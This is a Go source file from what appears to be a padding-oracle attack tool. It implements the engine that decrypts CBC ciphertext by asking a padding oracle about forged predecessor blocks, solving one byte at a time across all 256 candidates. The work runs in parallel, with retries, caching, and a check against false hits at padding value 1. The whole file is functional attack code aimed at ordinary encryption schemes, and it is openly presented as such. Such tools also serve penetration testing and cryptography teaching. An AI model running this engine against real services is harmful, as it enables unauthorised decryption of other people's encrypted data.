// Package attack drives the byte-at-a-time recovery of intermediate states
// through a padding oracle, in parallel over blocks and candidate bytes.
package attack

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"

	log "github.com/sirupsen/logrus"

	"github.com/nzkv/pado/blocks"
	"github.com/nzkv/pado/cache"
	"github.com/nzkv/pado/oracle"
)

// DefaultWorkers bounds concurrent oracle questions when no thread count is
// given.
const DefaultWorkers = 64

// sweepMaxAttempts bounds how many times the 256-candidate search for one
// byte is run, the first sweep included, before the block fails.
const sweepMaxAttempts = 3

// Config wires an engine to its collaborators.
type Config struct {
	Oracle  oracle.Oracle
	Cache   *cache.Cache
	Workers int
	// Events receives progress ticks and block state transitions. Optional;
	// sends never block.
	Events chan<- Event
}

// Engine coordinates block jobs over a bounded pool of oracle questions.
type Engine struct {
	oracle  oracle.Oracle
	cache   *cache.Cache
	workers int
	sem     chan struct{}
	events  chan<- Event

	bytesDone  atomic.Int64
	bytesTotal atomic.Int64
}

func New(cfg Config) *Engine {
	workers := cfg.Workers
	if workers < 1 {
		workers = DefaultWorkers
	}
	c := cfg.Cache
	if c == nil {
		c = cache.Disabled()
	}
	return &Engine{
		oracle:  cfg.Oracle,
		cache:   c,
		workers: workers,
		sem:     make(chan struct{}, workers),
		events:  cfg.Events,
	}
}

// BlockResult is one block's outcome. Unrecovered blocks (the first block in
// no-IV mode) carry no bytes.
type BlockResult struct {
	Index        int
	Intermediate []byte
	Plaintext    []byte
	Recovered    bool
}

// Result aggregates all block outcomes of a decryption.
type Result struct {
	Blocks []BlockResult
}

// Plaintext concatenates the recovered plaintext bytes in block order.
func (r *Result) Plaintext() []byte {
	var out []byte
	for _, b := range r.Blocks {
		if b.Recovered {
			out = append(out, b.Plaintext...)
		}
	}
	return out
}

// Decrypt recovers the plaintext of ct block by block. All blocks run
// concurrently; within a block the candidate bytes for each padding position
// run concurrently too, all bounded by the worker count. On cancellation the
// cache is flushed and the partial result is returned with ErrCancelled.
func (e *Engine) Decrypt(ctx context.Context, ct *blocks.Ciphertext) (*Result, error) {
	blockSize := ct.BlockSize()
	targets := make([]int, 0, ct.AmountBlocks()-1)
	for idx := 1; idx < ct.AmountBlocks(); idx++ {
		targets = append(targets, idx)
	}

	e.bytesDone.Store(0)
	e.bytesTotal.Store(int64(len(targets) * blockSize))

	res := &Result{}
	if !ct.HasIV() {
		// with a null IV assumed, the first block's predecessor is unknown to
		// the attacker and its plaintext cannot be recovered
		res.Blocks = append(res.Blocks, BlockResult{Index: 0})
		log.Warnf("block 0 has no known predecessor without an IV; reporting it as unrecoverable")
	}

	runCtx, cancel := context.WithCancel(ctx)
	defer cancel()

	var (
		wg       sync.WaitGroup
		mu       sync.Mutex
		firstErr error
		solved   = make([]BlockResult, len(targets))
	)
	for i, idx := range targets {
		e.emitBlock(idx, BlockQueued, nil, nil, nil)
		wg.Add(1)
		go func(i, idx int) {
			defer wg.Done()
			intermediate, err := e.solveBlock(runCtx, ct.Block(idx), idx)
			if err != nil {
				mu.Lock()
				if firstErr == nil && ctx.Err() == nil {
					firstErr = err
				}
				mu.Unlock()
				cancel()
				return
			}
			plain := blocks.XOR(intermediate, ct.Block(idx-1))
			mu.Lock()
			solved[i] = BlockResult{
				Index:        idx,
				Intermediate: intermediate,
				Plaintext:    plain,
				Recovered:    true,
			}
			mu.Unlock()
			e.emitBlock(idx, BlockSolved, intermediate, plain, nil)
		}(i, idx)
	}
	wg.Wait()

	for _, b := range solved {
		if b.Recovered {
			res.Blocks = append(res.Blocks, b)
		}
	}

	if err := e.cache.Flush(); err != nil {
		log.Errorf("cache flush failed: %v", err)
	}
	if ctx.Err() != nil {
		return res, ErrCancelled
	}
	if firstErr != nil {
		return res, firstErr
	}
	return res, nil
}

// solveBlock recovers the intermediate state of one target block. Worker
// panics are contained here and converted to an error on the block.
func (e *Engine) solveBlock(ctx context.Context, target []byte, idx int) (intermediate []byte, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("block %d: worker panicked: %v", idx, r)
		}
		if err != nil {
			state := BlockFailed
			if ctx.Err() != nil {
				state = BlockCancelled
			}
			e.emitBlock(idx, state, nil, nil, err)
		}
	}()

	e.emitBlock(idx, BlockRunning, nil, nil, nil)

	if cached, ok := e.cache.Lookup(target); ok {
		log.Debugf("block %d: cache hit", idx)
		e.bytesDone.Add(int64(len(target)))
		e.emitTick()
		return cached, nil
	}

	blockSize := len(target)
	forgedPredecessor := make([]byte, blockSize)
	intermediate = make([]byte, blockSize)

	for pad := 1; pad <= blockSize; pad++ {
		pos := blockSize - pad
		// already-solved positions must decrypt to the current padding value
		for i := pos + 1; i < blockSize; i++ {
			forgedPredecessor[i] = intermediate[i] ^ byte(pad)
		}

		value, err := e.searchByte(ctx, forgedPredecessor, target, pos, pad, idx)
		if err != nil {
			return nil, err
		}
		intermediate[pos] = value ^ byte(pad)
		log.Debugf("block %d, byte %d: solved", idx, pos)

		e.bytesDone.Add(1)
		e.emitTick()
	}

	if err := e.cache.Insert(target, intermediate); err != nil {
		return nil, err
	}
	return intermediate, nil
}

// searchByte finds the forged-predecessor byte at pos that yields correct
// padding, repeating the full sweep a bounded number of times before giving
// up on the block.
func (e *Engine) searchByte(ctx context.Context, forgedPredecessor, target []byte, pos, pad, idx int) (byte, error) {
	for attempt := 1; attempt <= sweepMaxAttempts; attempt++ {
		value, found, err := e.sweep(ctx, forgedPredecessor, target, pos, pad)
		if err != nil {
			return 0, err
		}
		if found {
			return value, nil
		}
		log.Warnf("block %d, padding value %d: no candidate succeeded, retrying sweep (%d/%d)",
			idx, pad, attempt, sweepMaxAttempts)
	}
	return 0, &NoValidByteError{Block: idx, Pad: pad}
}

// sweep tries all 256 candidates for the byte at pos concurrently and
// returns the first confirmed hit. Dispatch of further candidates stops as
// soon as a winner is confirmed; in-flight questions are left to finish and
// their answers discarded.
func (e *Engine) sweep(ctx context.Context, forgedPredecessor, target []byte, pos, pad int) (byte, bool, error) {
	var (
		wg       sync.WaitGroup
		mu       sync.Mutex
		winner   = -1
		panicErr error
		done     atomic.Bool
	)

	for v := 0; v < 256; v++ {
		wg.Add(1)
		go func(v byte) {
			defer wg.Done()
			// a panicking question must not take down its peers
			defer func() {
				if r := recover(); r != nil {
					mu.Lock()
					if panicErr == nil {
						panicErr = fmt.Errorf("oracle question for candidate 0x%02x panicked: %v", v, r)
					}
					mu.Unlock()
				}
			}()
			e.sem <- struct{}{}
			defer func() { <-e.sem }()

			// cancellation and early termination are polled at submission
			// time, never mid-flight
			if done.Load() || ctx.Err() != nil {
				return
			}

			trial := append([]byte(nil), forgedPredecessor...)
			trial[pos] = v

			correct, err := oracle.AskWithRetry(ctx, e.oracle, forged(trial, target))
			if err != nil {
				if ctx.Err() == nil {
					log.Debugf("candidate 0x%02x dropped: %v", v, err)
				}
				return
			}
			if !correct {
				return
			}

			// at padding value 1 a second, spurious candidate can pass when
			// an adjacent plaintext byte happens to extend the padding. Flip
			// a bit next to the target byte: the true 0x01 case still
			// passes, the spurious one stops doing so.
			if pad == 1 {
				perturbed := append([]byte(nil), trial...)
				perturbed[len(perturbed)-2] ^= 1
				still, err := oracle.AskWithRetry(ctx, e.oracle, forged(perturbed, target))
				if err != nil || !still {
					return
				}
			}

			mu.Lock()
			if winner < 0 {
				winner = int(v)
			}
			mu.Unlock()
			done.Store(true)
		}(byte(v))
	}
	wg.Wait()

	if err := ctx.Err(); err != nil {
		return 0, false, err
	}
	mu.Lock()
	defer mu.Unlock()
	if winner >= 0 {
		return byte(winner), true, nil
	}
	if panicErr != nil {
		return 0, false, panicErr
	}
	return 0, false, nil
}

func forged(predecessor, target []byte) []byte {
	out := make([]byte, 0, len(predecessor)+len(target))
	out = append(out, predecessor...)
	return append(out, target...)
}

func (e *Engine) emitTick() {
	e.emit(Event{
		Kind:       EventTick,
		BytesDone:  int(e.bytesDone.Load()),
		BytesTotal: int(e.bytesTotal.Load()),
	})
}

func (e *Engine) emitBlock(idx int, state BlockState, intermediate, plaintext []byte, err error) {
	e.emit(Event{
		Kind:         EventBlock,
		Block:        idx,
		State:        state,
		BytesDone:    int(e.bytesDone.Load()),
		BytesTotal:   int(e.bytesTotal.Load()),
		Intermediate: intermediate,
		Plaintext:    plaintext,
		Err:          err,
	})
}

func (e *Engine) emit(ev Event) {
	if e.events == nil {
		return
	}
	select {
	case e.events <- ev:
	default:
	}
}
